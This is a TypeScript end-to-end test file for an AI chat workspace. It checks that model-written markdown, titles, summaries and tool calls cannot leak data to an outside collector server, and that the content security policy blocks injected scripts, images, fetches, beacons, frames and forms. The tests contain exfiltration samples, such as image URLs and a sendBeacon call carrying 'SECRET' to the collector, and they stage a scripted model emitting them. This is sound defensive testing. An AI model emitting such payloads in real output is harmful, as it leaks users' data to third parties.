import { translator } from '#components/i18n.ts';
import { Workspace } from '#tests/e2e/support/desk';
import { expect, test } from '#tests/e2e/support/desk-test';
import { newestRequest, SUMMARY } from '#tests/e2e/support/scripted-model';
import { startStranger } from '#tests/e2e/support/stranger';
import { escapeFrom } from '#tests/e2e/support/waits';
import { exfiltrationPayloads, foreignLinks } from '#tests/support/exfiltration';
import { isSummaryRequest } from '#tests/support/summary-requests';

const t = translator('outsideLink');
const tCompaction = translator('compaction');

test('what a model writes loads nothing from origins that are not allowed, and links ask first', async ({
  page,
  context,
  startOwnScripted,
}) => {
  await using collector = await startStranger();
  await using allowed = await startStranger();
  const { origin } = collector;
  const payloads = Object.values(exfiltrationPayloads(origin));
  const links = Object.values(foreignLinks(origin));
  // An unclosed payload would hide those after it.
  const open = payloads.filter((payload) => !/[)>`$\w]$/.test(payload) || /\(http[^)]*$/.test(payload));
  const closed = payloads.filter((payload) => !open.includes(payload));
  const answers = [0, 1, 2, 3].map((part) => closed.filter((_, index) => index % 4 === part).join('\n\n')).concat(open);
  const hostile = {
    type: 'page',
    title: `<img src="${origin}/title">`,
    sections: [{ type: 'text', fields: { body: payloads[0] ?? '' } }],
  };
  const respond: Parameters<typeof startOwnScripted>[0] = (request) => {
    if (isSummaryRequest(request)) return { text: SUMMARY.replace(/Write.*/, () => payloads.join('\n\n')) };
    const asked = newestRequest(request);
    if (request.messages.at(-1)?.role === 'tool') return { text: 'Done.' };
    if (asked.includes('the plan'))
      return { text: `![the plan](${allowed.origin}/plan.png) and [more](${allowed.origin}/more)` };
    if (asked.includes('build'))
      return { text: 'I will.', toolCalls: [{ id: 'call_1', name: 'create_content', input: hostile }] };
    const at = /answer (\d+)/.exec(asked)?.[1];
    return { text: at === undefined ? links.join('\n\n') : (answers[Number(at)] ?? '') };
  };
  const { server } = await startOwnScripted(respond, { ALLOWED_ORIGINS: allowed.origin });
  const desk = new Workspace(page);
  const title = `<img src=${origin}/title> ![x](${origin}/title)`;
  await page.request.post(`${server.url}/api/sessions`, { data: { title } });
  await page.goto(server.url);
  await expect(page.getByRole('navigation').getByText(title)).toBeVisible();
  for (const index of answers.keys()) await desk.ask(`Give me answer ${index}`);
  await desk.ask('Please build it');
  const id = page.url().split('/').at(-1) ?? '';
  await page.request.post(`${server.url}/api/sessions/${id}/compact`);
  await expect(desk.transcript.getByRole('note').getByRole('button', { name: tCompaction('done') })).toBeVisible();
  await desk.transcript
    .getByRole('note')
    .getByRole('button', { name: tCompaction('done') })
    .click();
  await page.reload();
  const plan = await desk.ask('Show me the plan');
  await expect(plan.getByRole('img', { name: 'the plan' })).toBeAttached();
  await expect(plan.getByRole('link', { name: 'more' })).toHaveAttribute('href', `${allowed.origin}/more`);
  await expect.poll(() => allowed.requests).toContain('/plan.png');
  await desk.ask('And the links?');
  // Also pictures that load lazily.
  const settled = () =>
    [...document.images].every((image) => {
      image.loading = 'eager';
      return image.complete;
    });
  await expect.poll(() => page.evaluate(settled)).toBe(true);
  expect(collector.requests).toEqual([]);
  expect(collector.connectionCount()).toBe(0);
  await expect(desk.transcript.getByText('Image not shown').first()).toBeAttached();

  const host = new URL(origin).host;
  const asking = desk.answers.last().getByRole('button', { name: `(${host})` });
  await expect(asking).toHaveCount(links.length);
  for (const link of await asking.all()) {
    await link.click();
    const question = page.getByRole('dialog', { name: t('title') });
    await expect(question).toContainText('SECRET');
    await expect(question).toContainText(t('body', { host }));
    await escapeFrom(question);
  }
  expect(collector.connectionCount()).toBe(0);

  await asking.first().click();
  const opened = context.waitForEvent('page');
  await page.getByRole('link', { name: t('open'), exact: true }).click();
  await expect(await opened).toHaveTitle('collected');
  expect(collector.requests.filter((url) => url !== '/favicon.ico')).toEqual(['/link?q=SECRET']);
});

test('an injected script can load no other script, picture or address, and send no form', async ({
  page,
  startScripted,
}) => {
  await using collector = await startStranger();
  const scripted = await startScripted(() => ({ text: 'Good day.' }));
  /** Of the documents of frames, by their addresses. */
  const policies = new Map<string, string | undefined>();
  page.on('response', (response) => {
    const request = response.request();
    if (request.isNavigationRequest() && request.frame() !== page.mainFrame())
      policies.set(response.url(), response.headers()['content-security-policy']);
  });
  await page.goto(scripted.server.url);
  const violations = await page.evaluate(async (origin) => {
    const heard: string[] = [];
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => heard.push(effectiveDirective));
    const failed = (element: HTMLElement) =>
      new Promise<void>((resolve) => {
        element.addEventListener('error', () => resolve());
        document.body.append(element);
      });
    const image = document.createElement('img');
    image.src = `${origin}/injected-image`;
    await failed(image);
    const script = document.createElement('script');
    script.src = `${origin}/injected-script`;
    await failed(script);
    const sheet = document.createElement('link');
    sheet.rel = 'stylesheet';
    sheet.href = `${origin}/injected-style`;
    await failed(sheet);
    await fetch(`${origin}/injected-fetch`).catch(() => undefined);
    navigator.sendBeacon(`${origin}/injected-beacon`, 'SECRET');
    const box = document.createElement('div');
    box.style.cssText = `width:9px;height:9px;background-image:url(${origin}/injected-background)`;
    document.body.append(box);
    const frame = document.createElement('iframe');
    frame.src = `${origin}/injected-frame`;
    document.body.append(frame);
    const form = document.createElement('form');
    form.action = `${origin}/injected-form`;
    form.target = '_blank';
    document.body.append(form);
    form.submit();
    const inline = document.createElement('script');
    inline.textContent = 'window.injected = "script";';
    const handler = document.createElement('div');
    handler.innerHTML = `<img src="${origin}/injected-handler" onerror="window.injected = 'handler'">`;
    const style = document.createElement('style');
    style.textContent = 'body { display: none }';
    document.body.append(inline, handler, style);
    await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
    while (new Set(heard).size < 7) await new Promise((resolve) => requestAnimationFrame(resolve));
    return [...new Set(heard)].toSorted();
  }, collector.origin);
  expect(violations).toEqual([
    'connect-src',
    'form-action',
    'frame-src',
    'img-src',
    'script-src-attr',
    'script-src-elem',
    'style-src-elem',
  ]);
  expect(await page.evaluate(() => 'injected' in globalThis)).toBe(false);
  await expect(page.locator('body')).toBeVisible();

  // In the preview not even a script runs that its policy would let run: the frame takes none, and none is sent.
  await expect(new Workspace(page).preview.locator('main')).toBeVisible();
  const framed = page.frames().find((frame) => new URL(frame.url()).pathname.startsWith('/preview'));
  const policy = policies.get(framed?.url() ?? '') ?? '';
  const nonce = /'nonce-([^']+)'/.exec(policy)?.[1] ?? '';
  expect(policy.split('; ')).toEqual(
    expect.arrayContaining([
      "default-src 'none'",
      "img-src 'self' data:",
      "connect-src 'none'",
      "frame-src 'none'",
      'form-action mailto:',
    ]),
  );
  const scripts = await page.evaluate((known) => {
    const draft = document.querySelector<HTMLIFrameElement>('iframe[aria-hidden="false"]')?.contentDocument;
    if (!draft) return -1;
    const sent = draft.scripts.length;
    const script = draft.createElement('script');
    script.nonce = known;
    script.textContent = 'parent.injected = "draft";';
    draft.body.append(script);
    return sent;
  }, nonce);
  expect(scripts).toBe(0);
  expect(nonce).not.toBe('');
  expect(await page.evaluate(() => 'injected' in globalThis)).toBe(false);
  expect(collector.requests).toEqual([]);
});
